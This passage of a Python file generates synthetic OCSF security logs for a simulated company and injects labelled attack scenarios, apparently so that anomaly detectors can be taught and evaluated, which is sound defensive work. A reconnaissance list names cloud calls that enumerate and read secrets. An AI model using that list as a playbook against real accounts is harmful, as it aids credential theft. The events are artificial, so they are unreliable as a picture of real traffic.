"""A seeded generator of synthetic OCSF 1.8.0 events, and a validator for single events.

Chapter "The OCSF pipeline" teaches this file. The generator draws every attribute of every
event as a numpy array first (one vectorised pass per event class) and keeps the result as a
*flat* table whose columns are dotted OCSF attribute paths (``http_response.latency``); the
nested JSON dictionaries an OCSF producer would emit are built from that table only when asked
(:meth:`GeneratedEvents.to_events`). Identifiers follow the OCSF 1.8.0 schema
(``ocsf/ocsf-schema``): ``type_uid = class_uid * 100 + activity_id`` and
``category_uid = class_uid // 1000``.

The simulated organisation (:class:`World`) has users with a department, a home ``/24``
subnet, a country, working hours, an MFA flag and an activity weight; servers and services with
their own lognormal latency and small error rates; and diurnal and weekend patterns. Anomaly
labels never appear inside the events: they live in :attr:`GeneratedEvents.labels`, keyed by
``metadata.uid``.
"""

from __future__ import annotations

import datetime as dt
import gc
from contextlib import contextmanager
from dataclasses import dataclass
from itertools import repeat
from typing import Any, Callable, Iterator

import numpy as np
import pandas as pd

OCSF_VERSION = "1.8.0"
"""The OCSF schema version written to ``metadata.version``."""

DEFAULT_START = dt.datetime(2026, 3, 2, tzinfo=dt.timezone.utc)
"""Default first instant of a generated period (a Monday, 00:00 UTC)."""

PRODUCT_NAME = "tabresnet-course log simulator"
VENDOR_NAME = "tabresnet_course"

MS_PER_HOUR = 3_600_000
MS_PER_DAY = 86_400_000

# --------------------------------------------------------------------------------------------
# OCSF identifiers (schema 1.8.0)
# --------------------------------------------------------------------------------------------

CATEGORY_NAMES: dict[int, str] = {
    1: "System Activity",
    3: "Identity & Access Management",
    4: "Network Activity",
    6: "Application Activity",
}

_COMMON_ACTIVITIES = {0: "Unknown", 99: "Other"}

OCSF_CLASSES: dict[int, dict[str, Any]] = {
    1001: {
        "name": "File System Activity",
        "activities": {
            1: "Create", 2: "Read", 3: "Update", 4: "Delete", 5: "Rename", 6: "Set Attributes",
            7: "Set Security", 8: "Get Attributes", 9: "Get Security", 10: "Encrypt",
            11: "Decrypt", 12: "Mount", 13: "Unmount", 14: "Open",
        },
        "required": ("actor", "device", "file"),
    },
    1007: {
        "name": "Process Activity",
        "activities": {1: "Launch", 2: "Terminate", 3: "Open", 4: "Inject", 5: "Set User ID"},
        "required": ("actor", "device", "process"),
    },
    3002: {
        "name": "Authentication",
        "activities": {
            1: "Logon", 2: "Logoff", 3: "Authentication Ticket", 4: "Service Ticket Request",
            5: "Service Ticket Renew", 6: "Preauth", 7: "Account Switch",
        },
        "required": ("user",),
    },
    4001: {
        "name": "Network Activity",
        "activities": {
            1: "Open", 2: "Close", 3: "Reset", 4: "Fail", 5: "Refuse", 6: "Traffic", 7: "Listen",
        },
        "required": (),
    },
    4002: {
        "name": "HTTP Activity",
        "activities": {
            1: "Connect", 2: "Delete", 3: "Get", 4: "Head", 5: "Options", 6: "Post", 7: "Put",
            8: "Trace", 9: "Patch",
        },
        "required": ("http_request", "http_response"),
    },
    6003: {
        "name": "API Activity",
        "activities": {1: "Create", 2: "Read", 3: "Update", 4: "Delete"},
        "required": ("actor", "api", "src_endpoint"),
    },
}
for _spec in OCSF_CLASSES.values():
    _spec["activities"] = {**_COMMON_ACTIVITIES, **_spec["activities"]}

SEVERITY_NAMES: dict[int, str] = {
    0: "Unknown", 1: "Informational", 2: "Low", 3: "Medium", 4: "High", 5: "Critical",
    6: "Fatal", 99: "Other",
}
STATUS_NAMES: dict[int, str] = {0: "Unknown", 1: "Success", 2: "Failure", 99: "Other"}
AUTH_PROTOCOL_NAMES: dict[int, str] = {
    0: "Unknown", 1: "NTLM", 2: "Kerberos", 3: "Digest", 4: "OpenID", 5: "SAML", 6: "OAUTH 2.0",
    7: "PAP", 8: "CHAP", 9: "EAP", 10: "RADIUS", 11: "Basic Authentication", 12: "LDAP",
    99: "Other",
}
LOGON_TYPE_NAMES: dict[int, str] = {
    0: "Unknown", 1: "System", 2: "Interactive", 3: "Network", 4: "Batch", 5: "OS Service",
    7: "Unlock", 8: "Network Cleartext", 9: "New Credentials", 10: "Remote Interactive",
    11: "Cached Interactive", 12: "Cached Remote Interactive", 13: "Cached Unlock", 99: "Other",
}
DIRECTION_NAMES: dict[int, str] = {0: "Unknown", 1: "Inbound", 2: "Outbound", 3: "Lateral", 99: "Other"}

GENERATED_CLASSES: tuple[int, ...] = (3002, 4001, 4002, 6003, 1007, 1001)
"""The event classes the generator emits (and the order of its per-class tables)."""

SCENARIOS: tuple[str, ...] = (
    "data_exfiltration",
    "port_scan",
    "latency_error_storm",
    "brute_force",
    "privilege_escalation",
    "off_hours_new_country",
    "latency_drift",
)
"""Injected anomaly scenarios, roughly from easy to hard for a kNN detector."""

# Share of the evaluation period's events per scenario, the smallest count, and the campaign
# size (events of one campaign share an attacker, a victim and a time window).
_SCENARIO_PLAN: dict[str, tuple[float, int, int]] = {
    "data_exfiltration": (0.0008, 4, 8),
    "port_scan": (0.005, 20, 250),
    "latency_error_storm": (0.004, 15, 200),
    "brute_force": (0.004, 15, 60),
    "privilege_escalation": (0.0006, 6, 6),
    "off_hours_new_country": (0.002, 10, 10),
    "latency_drift": (0.004, 15, 10**9),
}

# --------------------------------------------------------------------------------------------
# The simulated organisation
# --------------------------------------------------------------------------------------------

DEPARTMENTS = ("engineering", "finance", "sales", "hr", "it")
_DEPARTMENT_P = (0.35, 0.15, 0.25, 0.10, 0.15)
COUNTRIES = ("US", "GB", "DE", "IN")
_COUNTRY_P = (0.55, 0.15, 0.15, 0.15)
_WORK_START_UTC = {"US": 13.5, "GB": 8.0, "DE": 7.0, "IN": 3.5}
_CLOUD_REGION = {"US": "us-east-1", "GB": "eu-west-2", "DE": "eu-central-1", "IN": "ap-south-1"}
ATTACKER_COUNTRIES = ("BR", "NL", "RO", "VN", "NG")

_FIRST = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "karl",
    "laura", "mallory", "nina", "oscar", "peggy", "quinn", "rupert", "sybil", "trent", "ursula",
    "victor", "wendy", "xavier", "yara", "zoe", "amir", "bea", "chen", "dana", "emeka", "fatima",
    "goran", "hana", "ines", "jonas", "kenji", "lena", "mateo", "noor",
)
_LAST = (
    "smith", "jones", "garcia", "miller", "davis", "lopez", "wilson", "anderson", "thomas",
    "moore", "martin", "lee", "walker", "hall", "young", "king", "wright", "scott", "green",
    "baker", "adams", "nelson", "hill", "campbell", "mitchell", "roberts", "carter", "phillips",
    "evans", "turner", "torres", "parker", "collins", "edwards", "stewart", "morris", "murphy",
    "cook", "rogers", "morgan",
)

# Relative preference of each department for each generated class (order of GENERATED_CLASSES).
_CLASS_MIX = np.array([0.12, 0.30, 0.25, 0.13, 0.10, 0.10])
_DEPARTMENT_AFFINITY = np.array(
    [
        [1.0, 1.0, 1.0, 1.5, 1.5, 1.2],  # engineering
        [1.0, 0.8, 1.2, 0.8, 0.3, 1.5],  # finance
        [1.0, 0.8, 1.5, 0.5, 0.2, 1.0],  # sales
        [1.0, 0.7, 1.2, 0.4, 0.2, 1.2],  # hr
        [1.2, 1.3, 0.8, 1.5, 2.0, 0.8],  # it
    ]
)

# Servers: hostname -> IP.
SERVERS: dict[str, str] = {
    "dc01": "10.0.0.10", "files01": "10.0.0.20", "jump01": "10.0.0.30", "sso": "10.0.0.40",
    "vpn": "10.0.0.50", "web01": "10.0.1.11", "web02": "10.0.1.12", "db01": "10.0.2.10",
}

# HTTP services: name, hostname, ip, port, median latency (ms), lognormal sigma, 5xx rate, paths.
HTTP_SERVICES: tuple[tuple[str, str, str, int, float, float, float, tuple[str, ...]], ...] = (
    ("portal", "portal.corp.example", "10.0.1.11", 443, 80.0, 0.45, 0.004,
     ("/", "/login", "/dashboard", "/api/v1/profile", "/api/v1/notifications/{n}")),
    ("orders-api", "orders.corp.example", "10.0.1.12", 443, 120.0, 0.55, 0.008,
     ("/api/v2/orders", "/api/v2/orders/{n}", "/api/v2/orders/{n}/items", "/api/v2/customers/{n}")),
    ("billing-api", "billing.corp.example", "10.0.1.13", 8443, 200.0, 0.5, 0.006,
     ("/api/v1/invoices", "/api/v1/invoices/{n}", "/api/v1/payments/{uuid}")),
    ("search", "search.corp.example", "10.0.1.14", 443, 60.0, 0.4, 0.003,
     ("/search", "/suggest", "/search/advanced")),
    ("wiki", "wiki.corp.example", "10.0.1.15", 443, 150.0, 0.5, 0.004,
     ("/pages/{n}", "/pages/{n}/edit", "/attachments/{hex}")),
    ("git", "git.corp.example", "10.0.1.16", 443, 100.0, 0.6, 0.005,
     ("/repos/platform/{n}", "/repos/platform/{n}/commits/{hex}", "/repos/data/pulls/{n}")),
)
_HTTP_SERVICE_P = (0.28, 0.2, 0.1, 0.2, 0.12, 0.1)
_HTTP_METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD")
_HTTP_METHOD_P = (0.72, 0.18, 0.04, 0.02, 0.02, 0.02)
_HTTP_METHOD_ACTIVITY = {"GET": 3, "POST": 6, "PUT": 7, "DELETE": 2, "PATCH": 9, "HEAD": 4}
_USER_AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:136.0) Gecko/20100101 Firefox/136.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0 Safari/537.36 Edg/134.0",
    "python-requests/2.32.3",
    "curl/8.5.0",
)

# Network flows: service, port, protocol, destination kind, median bytes out, median bytes in, weight.
_NETWORK_FLOWS = (
    ("https", 443, "tcp", "external", 2_000, 40_000, 0.38),
    ("dns", 53, "udp", "dc01", 80, 200, 0.20),
    ("https", 443, "tcp", "web", 1_500, 20_000, 0.14),
    ("ldap", 389, "tcp", "dc01", 500, 2_000, 0.05),
    ("kerberos", 88, "tcp", "dc01", 1_200, 1_500, 0.05),
    ("smb", 445, "tcp", "files01", 5_000, 80_000, 0.08),
    ("postgresql", 5432, "tcp", "db01", 2_000, 30_000, 0.04),
    ("ssh", 22, "tcp", "jump01", 3_000, 6_000, 0.03),
    ("ntp", 123, "udp", "dc01", 76, 76, 0.02),
    ("http", 80, "tcp", "external", 800, 15_000, 0.01),
)
_WELL_KNOWN_SERVICES = {
    21: "ftp", 22: "ssh", 23: "telnet", 25: "smtp", 53: "dns", 80: "http", 88: "kerberos",
    110: "pop3", 123: "ntp", 135: "msrpc", 139: "netbios-ssn", 143: "imap", 389: "ldap",
    443: "https", 445: "smb", 636: "ldaps", 993: "imaps", 1433: "mssql", 3306: "mysql",
    3389: "rdp", 5432: "postgresql", 6379: "redis", 8080: "http-alt", 8443: "https-alt",
}

# API operations: service, operation, activity_id (1 Create, 2 Read, 3 Update, 4 Delete), weight.
_API_OPERATIONS = (
    ("storage", "GetObject", 2, 0.22), ("storage", "ListObjects", 2, 0.12),
    ("storage", "PutObject", 1, 0.08), ("storage", "DeleteObject", 4, 0.02),
    ("compute", "DescribeInstances", 2, 0.14), ("compute", "StartInstances", 3, 0.02),
    ("compute", "StopInstances", 3, 0.02), ("compute", "RunInstances", 1, 0.01),
    ("iam", "GetUser", 2, 0.05), ("iam", "ListRoles", 2, 0.03),
    ("iam", "AttachUserPolicy", 3, 0.005), ("iam", "CreateAccessKey", 1, 0.005),
    ("database", "DescribeDBInstances", 2, 0.08), ("database", "CreateDBSnapshot", 1, 0.01),
    ("secrets", "GetSecretValue", 2, 0.12), ("secrets", "ListSecrets", 2, 0.01),
    ("monitoring", "GetMetricData", 2, 0.06),
)
_RECON_OPERATIONS = (("secrets", "ListSecrets"), ("secrets", "GetSecretValue"),
                     ("storage", "ListObjects"), ("storage", "GetObject"), ("iam", "ListRoles"),
                     ("iam", "GetUser"), ("compute", "DescribeInstances"))

# Processes: parent, name, command line, user ("@" = the actor), host kind, weight.
_PROCESSES = (
    ("gnome-shell", "firefox", "/usr/lib/firefox/firefox", "@", "workstation", 0.14),
    ("gnome-shell", "code", "/usr/share/code/code --unity-launch", "@", "workstation", 0.07),
    ("gnome-shell", "slack", "/usr/lib/slack/slack --startup", "@", "workstation", 0.05),
    ("bash", "git", "git status", "@", "workstation", 0.05),
    ("bash", "git", "git pull --rebase", "@", "workstation", 0.04),
    ("bash", "python3", "python3 analysis.py --input data.csv", "@", "workstation", 0.06),
    ("bash", "ls", "ls -la", "@", "workstation", 0.06),
    ("bash", "ssh", "ssh jump01.corp.example", "@", "workstation", 0.03),
    ("bash", "sudo", "sudo systemctl restart nginx", "root", "workstation", 0.02),
    ("systemd", "cron", "/usr/sbin/cron -f", "root", "server", 0.07),
    ("cron", "logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "root", "server", 0.05),
    ("systemd", "nginx", "nginx: master process /usr/sbin/nginx", "root", "web", 0.03),
    ("nginx", "nginx", "nginx: worker process", "www-data", "web", 0.12),
    ("systemd", "sshd", "sshd: /usr/sbin/sshd -D", "root", "server", 0.05),
    ("postgres", "postgres", "postgres: checkpointer", "postgres", "db01", 0.08),
    ("systemd", "node_exporter", "/usr/local/bin/node_exporter", "prometheus", "server", 0.08),
)
_SUDO_ROW = 8

# Files: department -> (extension, median size in bytes) choices.
_FILE_TYPES = {
    "engineering": (("py", 8_000), ("md", 4_000), ("json", 20_000), ("ipynb", 150_000)),
    "finance": (("xlsx", 60_000), ("csv", 200_000), ("pdf", 300_000)),
    "sales": (("pptx", 2_000_000), ("docx", 60_000), ("xlsx", 50_000)),
    "hr": (("docx", 50_000), ("pdf", 250_000), ("xlsx", 40_000)),
    "it": (("sh", 3_000), ("yaml", 5_000), ("log", 500_000), ("conf", 2_000)),
}
_FILE_STEMS = ("report", "notes", "budget", "draft", "data", "summary", "invoice", "plan",
               "export", "config")
_FILE_DIRS = ("/home/{user}/Documents", "/home/{user}/projects", "/srv/shares/{dept}", "/tmp")


@dataclass(frozen=True)
class World:
    """The simulated organisation: one row per user (chapter "The OCSF pipeline").

    Built by :func:`build_world` from its own seed, so that a baseline and an evaluation period
    generated with different event seeds still describe the same people and machines.
    """

    user_name: np.ndarray  # (U,) object
    department: np.ndarray  # (U,) object
    department_index: np.ndarray  # (U,) int
    ip: np.ndarray  # (U,) object, workstation address inside the home /24
    subnet: np.ndarray  # (U,) object, e.g. "10.20.3.0/24"
    home_ip: np.ndarray  # (U,) object, public address used over the VPN
    country: np.ndarray  # (U,) object, ISO 3166 alpha-2
    hostname: np.ndarray  # (U,) object, the user's workstation
    work_start_utc: np.ndarray  # (U,) float, hour of day (UTC) the working day starts
    work_hours: np.ndarray  # (U,) float, length of the working day in hours
    has_mfa: np.ndarray  # (U,) bool
    is_admin: np.ndarray  # (U,) bool
    weight: np.ndarray  # (U,) float, relative activity

    @property
    def num_users(self) -> int:
        """Number of users in the world."""
        return len(self.user_name)


def build_world(num_users: int = 200, seed: int = 0) -> World:
    """Draw the users of the simulated organisation (chapter "The OCSF pipeline")."""
    if num_users < 10 or num_users > len(_FIRST) * len(_LAST):
        raise ValueError(f"num_users must be between 10 and {len(_FIRST) * len(_LAST)}, got {num_users}")
    rng = np.random.default_rng(np.random.SeedSequence([seed, 0x5EED]))
    pair = rng.choice(len(_FIRST) * len(_LAST), size=num_users, replace=False)
    names = np.array([f"{_FIRST[p // len(_LAST)]}.{_LAST[p % len(_LAST)]}" for p in pair], dtype=object)
    dept_index = rng.choice(len(DEPARTMENTS), size=num_users, p=_DEPARTMENT_P)
    department = np.array(DEPARTMENTS, dtype=object)[dept_index]
    subnet_third = rng.integers(0, 4, size=num_users)
    subnet_key = dept_index * 4 + subnet_third
    host = np.zeros(num_users, dtype=np.int64)
    for key in np.unique(subnet_key):  # number hosts within each /24
        members = np.flatnonzero(subnet_key == key)
        host[members] = 10 + np.arange(len(members))
    ip = np.array([f"10.{20 + d}.{s}.{h}" for d, s, h in zip(dept_index, subnet_third, host)], dtype=object)
    subnet = np.array([f"10.{20 + d}.{s}.0/24" for d, s in zip(dept_index, subnet_third)], dtype=object)
    home_ip = np.array([f"198.51.100.{100 + i % 150}" for i in range(num_users)], dtype=object)
    country = np.array(COUNTRIES, dtype=object)[rng.choice(len(COUNTRIES), size=num_users, p=_COUNTRY_P)]
    hostname = np.array(
        [f"ws-{d[:3]}-{i:03d}" for i, d in enumerate(department)], dtype=object
    )
    work_start = np.array([_WORK_START_UTC[c] for c in country]) + rng.normal(0.0, 0.75, size=num_users)
    work_hours = rng.uniform(7.5, 10.0, size=num_users)
    has_mfa = rng.random(num_users) < 0.85
    is_admin = (department == "it") | ((department == "engineering") & (rng.random(num_users) < 0.2))
    weight = rng.lognormal(0.0, 0.7, size=num_users)
    return World(names, department, dept_index, ip, subnet, home_ip, country, hostname,
                 work_start, work_hours, has_mfa, is_admin, weight)


# --------------------------------------------------------------------------------------------
# Vectorised drawing helpers
# --------------------------------------------------------------------------------------------

Block = dict[str, np.ndarray]
"""Columns of one batch of events of a single class: dotted path -> array of equal length."""


def _const(value: Any, n: int) -> np.ndarray:
    """An array of ``n`` copies of ``value`` (object dtype for strings)."""
    if isinstance(value, str):
        out = np.empty(n, dtype=object)
        out[:] = value
        return out
    return np.full(n, value)


def _pick(options: tuple | list, idx: np.ndarray) -> np.ndarray:
    """``options[idx]`` as an object array (for catalogues of strings)."""
    return np.array(options, dtype=object)[idx]


def _lognormal_int(rng: np.random.Generator, median: np.ndarray | float, sigma: float, n: int,
                   minimum: int = 1) -> np.ndarray:
    """Integer draws from a lognormal with the given median, at least ``minimum``."""
    values = rng.lognormal(np.log(median), sigma, size=n)
    return np.maximum(np.rint(values), minimum).astype(np.int64)


def _lookup(names: dict[int, str], ids: np.ndarray) -> np.ndarray:
    """Map integer ids to their captions (vectorised through a lookup table)."""
    table = np.empty(max(names) + 1, dtype=object)
    table[:] = "Other"
    for key, value in names.items():
        table[key] = value
    return table[ids]


def _sample_users(rng: np.random.Generator, world: World, n: int, class_uid: int) -> np.ndarray:
    """User index per event, weighted by activity and the department's taste for the class."""
    column = GENERATED_CLASSES.index(class_uid)
    p = world.weight * _DEPARTMENT_AFFINITY[world.department_index, column]
    return rng.choice(world.num_users, size=n, p=p / p.sum())


def _day_weights(start_ms: int, days: int) -> np.ndarray:
    """Probability of each day of the period: weekends carry a fifth of a weekday's traffic."""
    weekday = (start_ms // MS_PER_DAY + np.arange(days) + 3) % 7  # 1970-01-01 was a Thursday
    w = np.where(weekday >= 5, 0.2, 1.0)
    return w / w.sum()


def _user_times(rng: np.random.Generator, world: World, users: np.ndarray, start_ms: int,
                days: int, in_hours: float = 0.88) -> np.ndarray:
    """Epoch-ms timestamps: mostly inside each user's working hours, weekends quieter."""
    n = len(users)
    day = rng.choice(days, size=n, p=_day_weights(start_ms, days))
    working = rng.random(n) < in_hours
    hour = np.where(
        working,
        world.work_start_utc[users] + rng.random(n) * world.work_hours[users],
        rng.random(n) * 24.0,
    ) % 24.0
    return start_ms + day * MS_PER_DAY + (hour * MS_PER_HOUR).astype(np.int64)


def _uniform_times(rng: np.random.Generator, n: int, start_ms: int, days: int) -> np.ndarray:
    """Epoch-ms timestamps spread evenly over the period (machine activity)."""
    return start_ms + rng.integers(0, days * MS_PER_DAY, size=n)


def _format_paths(rng: np.random.Generator, templates: np.ndarray) -> np.ndarray:
    """Fill ``{n}``, ``{hex}`` and ``{uuid}`` placeholders of URL path templates."""
    n = len(templates)
    numbers = rng.integers(1, 100_000, size=n)
    hexes = rng.integers(0, 2**48, size=n)
    out = templates.copy()
    for i in np.flatnonzero(np.char.find(templates.astype(str), "{") >= 0):
        h = int(hexes[i])
        out[i] = templates[i].format(
            n=int(numbers[i]), hex=f"{h:012x}",
            uuid=f"{h:012x}"[:8] + f"-{h % 65536:04x}-4{h % 4096:03x}-a{h % 4000:03x}-{h:012x}",
        )
    return out


# --------------------------------------------------------------------------------------------
# One builder per class: normal behaviour of n events
# --------------------------------------------------------------------------------------------


def _authentication(rng: np.random.Generator, world: World, n: int, start_ms: int, days: int) -> Block:
    """Authentication (3002): Kerberos workstation logons, SSO, VPN and SSH to the jump host."""
    users = _sample_users(rng, world, n, 3002)
    kind = rng.choice(4, size=n, p=(0.45, 0.35, 0.12, 0.08))  # kerberos, sso, vpn, ssh
    kerberos_activity = rng.choice((1, 2, 3, 4), size=n, p=(0.5, 0.2, 0.15, 0.15))
    other_activity = rng.choice((1, 2), size=n, p=(0.8, 0.2))
    activity = np.where(kind == 0, kerberos_activity, other_activity)
    failed = (activity == 1) & (rng.random(n) < 0.03)
    protocol = np.array((2, 5, 10, 99))[kind]
    logon_type = np.array((2, 3, 3, 10))[kind]
    dst_host = _pick(("dc01", "sso", "vpn", "jump01"), kind)
    mfa_capable = (kind == 1) | (kind == 2)
    return {
        "time": _user_times(rng, world, users, start_ms, days),
        "activity_id": activity,
        "status_id": np.where(failed, 2, 1),
        "severity_id": np.where(failed, 2, 1),
        "duration": _lognormal_int(rng, 40.0, 0.6, n),
        "user.name": world.user_name[users],
        "src_endpoint.ip": np.where(kind == 2, world.home_ip[users], world.ip[users]),
        "src_endpoint.location.country": world.country[users],
        "dst_endpoint.hostname": dst_host,
        "dst_endpoint.ip": _pick(tuple(SERVERS[h] for h in ("dc01", "sso", "vpn", "jump01")), kind),
        "dst_endpoint.svc_name": _pick(("kerberos", "sso", "vpn", "ssh"), kind),
        "auth_protocol_id": protocol,
        "auth_protocol": _lookup(AUTH_PROTOCOL_NAMES, protocol),
        "logon_type_id": logon_type,
        "logon_type": _lookup(LOGON_TYPE_NAMES, logon_type),
        "is_mfa": mfa_capable & world.has_mfa[users] & (rng.random(n) < 0.97),
        "is_remote": kind >= 2,
    }


def _network(rng: np.random.Generator, world: World, n: int, start_ms: int, days: int) -> Block:
    """Network Activity (4001): flows from workstations to internal servers and the internet."""
    users = _sample_users(rng, world, n, 4001)
    flow = rng.choice(len(_NETWORK_FLOWS), size=n, p=[f[6] for f in _NETWORK_FLOWS])
    svc, port, proto, dst_kind, out_median, in_median, _ = (np.array(c, dtype=object) for c in zip(*_NETWORK_FLOWS))
    external_ips = np.array([f"198.51.100.{i}" for i in range(10, 70)], dtype=object)
    popularity = 1.0 / np.arange(1, len(external_ips) + 1)  # Zipf: a few sites get most flows
    dst_ip = np.empty(n, dtype=object)
    kinds = dst_kind[flow]
    is_external = kinds == "external"
    dst_ip[is_external] = external_ips[rng.choice(len(external_ips), size=int(is_external.sum()), p=popularity / popularity.sum())]
    is_web = kinds == "web"
    dst_ip[is_web] = _pick((SERVERS["web01"], SERVERS["web02"]), rng.integers(0, 2, size=int(is_web.sum())))
    for host in ("dc01", "files01", "db01", "jump01"):
        dst_ip[kinds == host] = SERVERS[host]
    bytes_out = _lognormal_int(rng, out_median[flow].astype(float), 1.0, n, minimum=40)
    bytes_in = _lognormal_int(rng, in_median[flow].astype(float), 1.0, n, minimum=0)
    activity = rng.choice((6, 2, 1, 3, 4), size=n, p=(0.70, 0.18, 0.08, 0.025, 0.015))
    direction = np.where(is_external, 2, 3)
    return {
        "time": _user_times(rng, world, users, start_ms, days, in_hours=0.8),
        "activity_id": activity,
        "status_id": np.where(activity == 4, 2, 1),
        "severity_id": np.where(activity == 4, 2, 1),
        "duration": _lognormal_int(rng, 200.0, 1.2, n, minimum=0),
        "src_endpoint.ip": world.ip[users],
        "src_endpoint.port": rng.integers(49152, 65536, size=n),
        "dst_endpoint.ip": dst_ip,
        "dst_endpoint.port": port[flow].astype(np.int64),
        "dst_endpoint.svc_name": svc[flow],
        "connection_info.protocol_name": proto[flow],
        "connection_info.direction_id": direction,
        "connection_info.direction": _lookup(DIRECTION_NAMES, direction),
        "traffic.bytes_in": bytes_in,
        "traffic.bytes_out": bytes_out,
        "traffic.packets_in": bytes_in // 1200 + 1,
        "traffic.packets_out": bytes_out // 1200 + 1,
    }


def _http(rng: np.random.Generator, world: World, n: int, start_ms: int, days: int,
          service: int | None = None) -> Block:
    """HTTP Activity (4002): requests to internal web services with per-service latency."""
    users = _sample_users(rng, world, n, 4002)
    svc = rng.choice(len(HTTP_SERVICES), size=n, p=_HTTP_SERVICE_P) if service is None else np.full(n, service)
    name, hostname, ip, port, median, sigma, error_rate, paths = (
        np.array(c, dtype=object) for c in zip(*HTTP_SERVICES)
    )
    path_index = (rng.random(n) * np.array([len(p) for p in paths])[svc]).astype(np.int64)
    templates = np.array([paths[s][i] for s, i in zip(svc, path_index)], dtype=object)
    method_index = rng.choice(len(_HTTP_METHODS), size=n, p=_HTTP_METHOD_P)
    method = _pick(_HTTP_METHODS, method_index)
    tools = (world.department[users] == "engineering") | (world.department[users] == "it")
    agent_p_browser = np.array([0.4, 0.25, 0.2, 0.15, 0.0, 0.0])
    agent = rng.choice(len(_USER_AGENTS), size=n, p=agent_p_browser)
    agent = np.where(tools & (rng.random(n) < 0.2), rng.integers(4, 6, size=n), agent)
    r = rng.random(n)
    server_error = r < error_rate[svc].astype(float)
    client_error = ~server_error & (r < error_rate[svc].astype(float) + 0.03)
    code = np.where(method == "POST", np.where(rng.random(n) < 0.5, 201, 200), 200)
    code = np.where(method == "DELETE", 204, code)
    code = np.where((method == "GET") & (rng.random(n) < 0.1), 304, code)
    code = np.where(client_error, rng.choice((404, 401, 403, 429), size=n, p=(0.6, 0.15, 0.15, 0.1)), code)
    code = np.where(server_error, rng.choice((500, 502, 503), size=n, p=(0.5, 0.2, 0.3)), code)
    slow_down = np.where(server_error, 1.5, 1.0)  # failing requests take a little longer
    latency_median = median[svc].astype(float) * slow_down
    latency = rng.lognormal(np.log(latency_median), sigma[svc].astype(float))  # per-service sigma
    latency = np.maximum(np.rint(latency), 1).astype(np.int64)
    activity = np.array([_HTTP_METHOD_ACTIVITY[m] for m in _HTTP_METHODS])[method_index]
    return {
        "time": _user_times(rng, world, users, start_ms, days),
        "activity_id": activity,
        "status_id": np.where(code < 400, 1, 2),
        "severity_id": np.select([code >= 500, code >= 400], [3, 2], 1),
        "src_endpoint.ip": world.ip[users],
        "dst_endpoint.ip": ip[svc],
        "dst_endpoint.port": port[svc].astype(np.int64),
        "dst_endpoint.svc_name": name[svc],
        "http_request.http_method": method,
        "http_request.url.hostname": hostname[svc],
        "http_request.url.path": _format_paths(rng, templates),
        "http_request.user_agent": _pick(_USER_AGENTS, agent),
        "http_response.code": code,
        "http_response.latency": latency,
    }


def _index_of(options: tuple, values: np.ndarray) -> np.ndarray:
    """Position of each value in ``options`` (vectorised through a dictionary of codes)."""
    codes, uniques = pd.factorize(values)
    table = np.array([options.index(u) for u in uniques], dtype=np.int64)
    return table[codes]


def _api(rng: np.random.Generator, world: World, n: int, start_ms: int, days: int) -> Block:
    """API Activity (6003): cloud control-plane calls (storage, compute, IAM, secrets, ...)."""
    users = _sample_users(rng, world, n, 6003)
    op = rng.choice(len(_API_OPERATIONS), size=n, p=np.array([o[3] for o in _API_OPERATIONS]) / sum(o[3] for o in _API_OPERATIONS))
    service, operation, activity, _ = (np.array(c, dtype=object) for c in zip(*_API_OPERATIONS))
    failed = rng.random(n) < 0.02
    return {
        "time": _user_times(rng, world, users, start_ms, days),
        "activity_id": activity[op].astype(np.int64),
        "status_id": np.where(failed, 2, 1),
        "severity_id": np.where(failed, 2, 1),
        "actor.user.name": world.user_name[users],
        "src_endpoint.ip": world.ip[users],
        "api.operation": operation[op],
        "api.service.name": service[op],
        "cloud.provider": _const("AWS", n),
        "cloud.region": _pick(tuple(_CLOUD_REGION.values()), _index_of(tuple(_CLOUD_REGION), world.country[users])),
    }


def _process(rng: np.random.Generator, world: World, n: int, start_ms: int, days: int) -> Block:
    """Process Activity (1007): desktop programs, admin sudo, and daemons on the servers."""
    users = _sample_users(rng, world, n, 1007)
    row = rng.choice(len(_PROCESSES), size=n, p=np.array([p[5] for p in _PROCESSES]) / sum(p[5] for p in _PROCESSES))
    row = np.where((row == _SUDO_ROW) & ~world.is_admin[users], _SUDO_ROW - 2, row)  # only admins sudo
    parent, name, cmd, proc_user, host_kind, _ = (np.array(c, dtype=object) for c in zip(*_PROCESSES))
    kind = host_kind[row]
    on_workstation = kind == "workstation"
    host = world.hostname[users].copy()
    server_names = np.array(("web01", "web02", "db01", "files01", "dc01", "jump01"), dtype=object)
    host[kind == "server"] = server_names[rng.integers(0, len(server_names), size=int((kind == "server").sum()))]
    host[kind == "web"] = _pick(("web01", "web02"), rng.integers(0, 2, size=int((kind == "web").sum())))
    host[kind == "db01"] = "db01"
    user = np.where(proc_user[row] == "@", world.user_name[users], proc_user[row])
    actor = np.where(on_workstation, world.user_name[users], user)
    activity = np.where(rng.random(n) < 0.7, 1, 2)
    activity = np.where(row == _SUDO_ROW, np.where(rng.random(n) < 0.5, 5, 1), activity)
    times = np.where(
        on_workstation,
        _user_times(rng, world, users, start_ms, days),
        _uniform_times(rng, n, start_ms, days),
    )
    return {
        "time": times,
        "activity_id": activity,
        "status_id": np.ones(n, dtype=np.int64),
        "severity_id": np.ones(n, dtype=np.int64),
        "actor.user.name": actor,
        "device.hostname": host,
        "process.name": name[row],
        "process.pid": rng.integers(1_000, 65_000, size=n),
        "process.cmd_line": cmd[row],
        "process.user.name": user,
        "process.parent_process.name": parent[row],
        "process.parent_process.pid": rng.integers(1, 1_000, size=n),
    }


def _file(rng: np.random.Generator, world: World, n: int, start_ms: int, days: int) -> Block:
    """File System Activity (1001): documents read and written on workstations and shares."""
    users = _sample_users(rng, world, n, 1001)
    dept = world.department[users]
    ext = np.empty(n, dtype=object)
    size_median = np.empty(n, dtype=float)
    for d, types in _FILE_TYPES.items():
        mask = dept == d
        pick = rng.integers(0, len(types), size=int(mask.sum()))
        ext[mask] = np.array([t[0] for t in types], dtype=object)[pick]
